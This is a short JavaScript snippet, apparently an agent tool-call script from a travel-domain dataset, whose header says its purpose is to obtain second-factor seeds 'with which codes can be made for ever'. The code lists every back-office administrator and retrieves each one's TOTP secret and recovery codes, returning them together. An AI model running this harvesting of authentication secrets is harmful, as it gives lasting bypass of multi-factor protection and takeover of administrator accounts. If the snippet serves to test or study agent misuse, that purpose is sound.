/*---
domain = "travel"
why = "The seeds of the second factor, with which codes can be made for ever."
---*/
const admins = await callTool("backoffice_users", { role: "admin" });
const seeds = {};
for (const { login } of admins) {
  seeds[login] = (await callTool("backoffice_user_detail", { login, fields: "totp_secret,recovery_codes" })) ?? null;
}
return seeds;
